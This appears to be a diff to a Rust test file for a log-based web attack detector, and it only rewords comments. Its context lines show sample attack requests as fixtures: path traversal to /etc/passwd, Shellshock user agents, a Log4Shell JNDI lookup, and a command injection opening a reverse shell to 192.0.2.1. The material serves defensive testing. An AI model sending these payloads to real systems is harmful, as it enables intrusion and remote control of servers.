@@ -1,11 +1,11 @@
-//! Attempts are told by their outcome: one is informational, several are medium, one that was answered is
-//! high. Targets that ordinary clients send are no attempts.
+//! Attempts are rated by their outcome: one is informational, several are medium, one with success is high.
+//! Requests of ordinary clients are not attempts.
 
 use crate::{alerts_of_log, log_line};
 
 const BROWSER: &str = "Mozilla/5.0";
 
-/// What an attacker sends, and its user agent. The outcome shows in the status.
+/// Targets and user agents of an attacker. The status shows the outcome.
 const TARGETS: &[(&str, &str)] = &[
     ("/view?file=../../../etc/passwd", BROWSER),
     ("/static/..%2f..%2f..%2fetc%2fpasswd", BROWSER),
@@ -70,7 +70,7 @@ const TARGETS: &[(&str, &str)] = &[
     ("/uploads/c99.php", BROWSER),
     ("/cgi-bin/status", "() { :;}; /bin/cat /etc/hostname"),
     ("http://example.com/", BROWSER),
-    // Encoded twice, overlong, and with blanks of other kinds.
+    // Double-encoded, overlong, and with other whitespace.
     (
         "/view?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
         BROWSER,
@@ -120,7 +120,7 @@ const TARGETS: &[(&str, &str)] = &[
     ("/ping?host=a;bash+-i+>%26+/dev/tcp/192.0.2.1/9", BROWSER),
 ];
 
-/// Pieces that one request with tells little of: informational whatever the status.
+/// Requests that mean little alone: informational whatever the status.
 const PIECES: &[&str] = &[
     "/item?id=1+group+by+x+having+1",
     "/item?id=hex(7)",
@@ -132,7 +132,7 @@ const PIECES: &[&str] = &[
     "/go?to=javascript:x",
 ];
 
-/// Attempts of which the status does not tell whether they worked.
+/// Attempts whose status does not show whether they succeeded.
 const SILENT: &[(&str, &str)] = &[
     ("/", "${jndi:ldap://192.0.2.1/a}"),
     ("/", "() { :;}; /bin/id"),
@@ -141,7 +141,7 @@ const SILENT: &[(&str, &str)] = &[
     ("/", "<?php echo 1"),
 ];
 
-/// What is none.
+/// Not attempts.
 const ORDINARY: &[&str] = &[
     "/",
     "/search?q=select+a+gift+from+our+store",
@@ -158,7 +158,7 @@ const ORDINARY: &[&str] = &[
     "/api/items?filter=price%3E10%26size%3C5",
     "/cart?coupon=50%25off",
     "/wiki/C%2B%2B",
-    // Programs of others that look like scripts, SQL or commands.
+    // Legitimate parameters that look like scripts, SQL or commands.
     "/captcha/api.js?onload=ready&render=explicit",
     "/beacon?href=javascript:void(0)&text=Next",
     "/beacon?t=Rock+%27n%27+Roll+%7C+%22Live%22+--+at+Tom%27s&u=javascript:;",
